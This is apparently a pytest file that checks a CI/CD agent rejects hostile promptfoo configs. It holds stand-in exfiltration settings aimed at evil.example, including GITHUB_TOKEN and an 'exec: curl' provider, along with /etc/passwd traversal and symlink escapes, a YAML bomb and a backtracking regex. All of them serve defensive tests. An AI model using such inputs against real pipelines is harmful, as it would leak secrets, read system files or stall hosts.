"""What a head's promptfoo config may try: send the job's key elsewhere, run a program or a
module, read a file outside the repository or through a link, stall the host with a pattern or
a document. Each is refused or ignored, and said."""

from __future__ import annotations

import pytest

from cicd_agent.actions.errors import UsageError
from cicd_agent.modes.eval.cases import Suite
from cicd_agent.modes.eval.checks import Check, judge
from cicd_agent.modes.eval.config import Reader
from cicd_agent.modes.eval.source import Commit
from tests.modes.eval.conftest import Repo

TESTS = """
tests:
  - description: greets
    vars: {name: Ada}
    assert:
      - type: contains
        value: Ada
"""


def read(repo: Repo, config: str, files: dict[str, str] | None = None,
         links: dict[str, str] | None = None) -> Suite:  # fmt: skip
    sha = repo.commit({"promptfooconfig.yaml": config, **(files or {})}, links or {})
    return Reader(Commit(repo.checkout(), sha), "promptfooconfig.yaml", None).suite()


@pytest.mark.parametrize(
    "setting",
    ["apiBaseUrl: http://evil.example", "apiKey: sk-steal", "apiHost: evil.example",
     "apiKeyEnvar: GITHUB_TOKEN", "headers: {X-Key: y}", "organization: theirs",
     "basePath: /x", "proxy: http://evil.example"],
)  # fmt: skip
def test_a_provider_cannot_route_the_request_or_choose_its_key(repo: Repo, setting: str) -> None:
    config = f"""
prompts: ["Say hi to {{{{name}}}}"]
providers:
  - id: openai:chat:gpt-4o-mini
    config: {{temperature: 0, {setting}}}
{TESTS}"""
    suite = read(repo, config)
    (case,) = suite.cases
    name = setting.split(":")[0]
    assert case.error == ""
    assert dict(case.options) == {"temperature": 0}
    assert "evil" not in case.request() and "steal" not in case.request()
    assert any(name in note and "ignored" in note for note in suite.notes)


@pytest.mark.parametrize(
    "provider",
    ["exec:./run.sh", "python:provider.py", "file://provider.js", "webhook:http://x.example",
     "http://evil.example/v1", "https://evil.example", "anthropic:messages:claude",
     "openai:chat:gpt-4o:extra", "{id: 'exec: curl evil.example'}"],
)  # fmt: skip
def test_a_provider_that_is_not_a_plain_model_is_an_error_on_each_case(
    repo: Repo, provider: str
) -> None:
    config = f"prompts: ['hi {{{{name}}}}']\nproviders: [{provider!r}]\n{TESTS}"
    if provider.startswith("{"):
        config = f"prompts: ['hi']\nproviders: [{provider}]\n{TESTS}"
    (case,) = read(repo, config).cases
    assert "is not a plain openai:MODEL" in case.error
    assert case.messages == ()


@pytest.mark.parametrize(
    ("assertion", "said"),
    [("{type: javascript, value: 'output.length > 1'}", "javascript"),
     ("{type: python, value: 'True'}", "python"),
     ("{type: webhook, value: 'http://evil.example'}", "webhook"),
     ("{type: contains, value: 'file://check.js'}", "is a file"),
     ("{type: equals, value: 'file://../secret.txt'}", "is a file"),
     ("{type: similar, value: 'x'}", "similar"),
     ("{type: regex, value: '(?=a)a'}", "RE2"),
     ("{type: is-json, value: {type: object}}", "schema"),
     ("{type: contains, value: '{% include \"x\" %}'}", "only {{ name }}")],
)  # fmt: skip
def test_an_assert_that_is_code_or_a_file_is_an_error_for_its_case(
    repo: Repo, assertion: str, said: str
) -> None:
    config = f"""
prompts: ["hi"]
providers: [openai:gpt-4o-mini]
tests:
  - description: one
    assert: [{assertion}]
  - description: two
    assert: [{{type: icontains, value: HI}}]
"""
    one, two = read(repo, config, {"check.js": "module.exports = () => true"}).cases
    assert said in one.judge_error
    assert two.judge_error == "" and two.checks == (Check("icontains", "HI"),)


@pytest.mark.parametrize(
    ("value", "said"),
    [("file://../../etc/passwd", "leads out of the repository"),
     ("file:///etc/passwd", "not a relative path"),
     ("file://linked.txt", "is a link"),
     ("file://through/inside.txt", "not a file"),
     ("file://vars.js", "is code"),
     ("file://missing.txt", "not a file")],
)  # fmt: skip
def test_a_file_variable_is_read_from_the_commit_never_through_a_link(
    repo: Repo, value: str, said: str, tmp_path: object
) -> None:
    config = f"""
prompts: ["Summarise {{{{doc}}}}"]
providers: [openai:gpt-4o-mini]
tests:
  - vars: {{doc: '{value}'}}
"""
    outside = repo.root.parent / "outside"
    outside.mkdir(exist_ok=True)
    (outside / "inside.txt").write_text("SECRET", encoding="utf-8")
    files = {"vars.js": "module.exports = 'x'"}
    links = {"linked.txt": "/etc/hostname", "through": str(outside)}
    (case,) = read(repo, config, files, links).cases
    assert said in case.error
    assert "SECRET" not in case.request()


def test_a_prompt_file_that_is_code_is_not_run(repo: Repo) -> None:
    config = "prompts: [file://prompt.js, file://prompt.py:make]\nproviders: [openai:m]\n" + TESTS
    cases = read(repo, config, {"prompt.js": "module.exports = 1"}).cases
    assert len(cases) == 2
    assert all("is code or a pattern" in case.error for case in cases)


def test_tests_read_through_a_link_are_refused(repo: Repo) -> None:
    config = "prompts: [hi]\nproviders: [openai:m]\ntests: file://cases.yaml\n"
    with pytest.raises(UsageError, match="is a link"):
        read(repo, config, links={"cases.yaml": "/etc/hostname"})


def test_a_yaml_bomb_is_refused_in_one_line(repo: Repo) -> None:
    bomb = "a: &a [x, x, x, x, x, x, x, x, x]\n" + "".join(
        f"{chr(98 + i)}: &{chr(98 + i)} [*{chr(97 + i)}, *{chr(97 + i)}, *{chr(97 + i)}, "
        f"*{chr(97 + i)}, *{chr(97 + i)}, *{chr(97 + i)}, *{chr(97 + i)}, *{chr(97 + i)}]\n"
        for i in range(9)
    )
    with pytest.raises(UsageError, match="was not read"):
        read(repo, bomb)


def test_a_backtracking_pattern_runs_in_linear_time() -> None:
    """``(a+)+$`` against a long run of ``a`` and a ``b`` takes Python's re exponential time."""
    check = Check("regex", "(a+)+$")
    assert not judge(check, "a" * 100_000 + "b")
    assert judge(check, "a" * 100_000)


def test_a_long_answer_and_a_large_edit_limit_stay_in_a_band() -> None:
    assert not judge(Check("levenshtein", "x" * 50_000, threshold=3), "y" * 50_000)


@pytest.mark.parametrize(
    "config",
    ["prompts: [1, {raw: [x]}, {label: {a: 1}}]\nproviders: [openai:m]\ntests: [{}]\n",
     "prompts: [hi]\nproviders: [{id: openai:m, config: {1: 2, null: 3, temperature: hot}}]\n"
     "tests: [{vars: {1: [a, b]}, assert: {type: 3}}]\n",
     "prompts: [hi]\nproviders: [openai:m]\ntests: [{assert: [{type: levenshtein, value: x, "
     "threshold: hot}, {type: regex, value: [1]}], threshold: [1], description: {a: b}}]\n",
     "prompts: [hi]\nproviders: [openai:m]\ndefaultTest: {vars: 3, assert: x}\ntests: 7\n",
     "prompts: ['{{ a.b.c }}']\nproviders: [openai:m]\ntests: [{vars: {a: {b: 5}}}]\n",
     "prompts: [hi]\nproviders: [openai:m]\ntests: [{vars: {a: [1, 2, 3, 4, 5, 6, 7, 8], "
     "b: [1, 2, 3, 4, 5, 6, 7, 8]}}]\n",
     "prompts: hi\nproviders: openai:m\ntests:\n  - vars: {x: file://a.txt}\n    assert:\n"
     "      - {type: levenshtein, value: 'x', threshold: 1000}\n"],
)  # fmt: skip
def test_a_malformed_config_is_an_error_on_its_cases_or_one_line_never_a_crash(
    repo: Repo, config: str
) -> None:
    try:
        suite = read(repo, config, {"a.txt": "A"})
    except UsageError as refused:
        assert "\n" not in str(refused)
        return
    assert suite.cases
    for case in suite.cases:
        assert case.error or case.messages
